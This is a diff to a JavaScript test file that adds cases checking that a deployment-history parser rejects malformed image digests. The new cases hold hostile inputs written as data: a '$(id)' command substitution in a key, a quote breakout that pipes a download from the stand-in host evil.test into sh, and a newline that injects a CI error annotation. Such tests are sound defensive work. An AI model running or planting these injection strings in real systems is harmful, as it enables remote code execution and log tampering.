@@ -219,3 +219,13 @@ test('backups are in the order in which they were begun', () => {
   expect(records.map(({ id }) => id)).toEqual(['b1', 'b2']);
   expect(unread).toEqual([expect.stringContaining('manifest.json of a folder in backups')]);
 });
+
+test.each([
+  { 'api $(id)': 'web:1' },
+  { api: 'x"; curl https://evil.test | sh' },
+  { api: 'web:1\n::error::x' },
+])('images of another form are no images of a release: %j', (digests) => {
+  expect(parseHistoryEntry({ ...deployed('r1'), digests })).toBe(
+    '"digests" is not an object of services and their images',
+  );
+});
